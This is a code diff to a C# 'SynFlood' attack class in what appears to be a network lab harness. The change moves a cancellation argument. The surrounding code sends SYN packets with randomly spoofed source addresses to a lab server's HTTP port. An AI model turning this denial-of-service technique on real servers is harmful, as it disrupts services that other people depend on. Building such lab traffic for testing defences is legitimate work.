@@ -20,7 +20,7 @@ public sealed class SynFlood : IAttack
         using var raw = NetNamespace.Run(names.Attacker, () => new RawTcpSocket(receiveTimeoutMillis: 20));
         var server = NetAddress.FromIPAddress(LabNames.ServerAddress);
         uint spoofBase = NetAddress.Parse("198.18.128.0").V4;
-        return Pacer.Flood(limits, cancel, _ =>
+        return Pacer.Flood(limits, _ =>
         {
             // Hosts 1..32766 of the /17: never the network or broadcast address.
             var source = NetAddress.FromV4(spoofBase + (uint)Random.Shared.Next(1, 1 << 15));
@@ -30,6 +30,6 @@ public sealed class SynFlood : IAttack
                 DestinationPort = LabNames.HttpPort, Sequence = (uint)Random.Shared.NextInt64(0, uint.MaxValue),
                 Flags = TcpFlags.Syn, Window = 64240, Mss = 1460,
             });
-        });
+        }, cancel);
     }
 }
